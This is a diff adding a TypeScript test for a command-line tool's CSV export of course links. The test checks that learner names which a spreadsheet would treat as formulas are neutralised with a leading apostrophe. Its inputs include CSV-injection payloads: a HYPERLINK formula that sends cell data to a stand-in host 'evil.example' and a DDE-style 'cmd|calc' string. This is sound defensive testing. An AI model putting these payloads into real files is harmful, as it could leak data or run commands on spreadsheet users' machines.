@@ -1,0 +1,44 @@
+/** Defends the file of links against spreadsheets: a name that would be a formula there is a text (CWE-1236). */
+import { expect } from 'chai'
+import { parse } from 'csv-parse/sync'
+import { csvOf } from '../../cli/links-file.ts'
+import type { IssuedLink } from '../../server/context.ts'
+
+describe('the file of links', () => {
+  const one = (name: string): IssuedLink => ({
+    row: 2,
+    index: 0,
+    cid: 'bcid',
+    link: 'https://school.example/c/bcid#secret',
+    learner: { name, email: `${name}@x.example`, externalId: name },
+  })
+
+  it('begins no cell with what a spreadsheet would calculate (S2)', () => {
+    const names = [
+      '=HYPERLINK("https://evil.example?"&A1)',
+      '+1+cmd|calc',
+      '-2+3',
+      '@SUM(A1)',
+      '\t=1',
+      '\r=1',
+      '＝1+1',
+      '＋1',
+      '－1',
+      '＠A1',
+    ]
+    const rows = parse(csvOf(names.map(one)), { bom: true, columns: true })
+    expect(rows).to.have.length(names.length)
+    for (const row of rows as Record<string, string>[]) {
+      for (const column of ['name', 'email', 'externalId']) {
+        expect(row[column], JSON.stringify(row)).to.match(/^'/)
+      }
+      expect(row['link']).to.equal('https://school.example/c/bcid#secret')
+    }
+  })
+
+  it('leaves other names as they are, quotes and line breaks inside', () => {
+    const names = ['Zoé L’Hôte', 'a "b", c', 'O;P', 'two\nlines', '1=1']
+    const rows = parse(csvOf(names.map(one)), { bom: true, columns: true })
+    expect((rows as Record<string, string>[]).map(({ name }) => name)).to.deep.equal(names)
+  })
+})
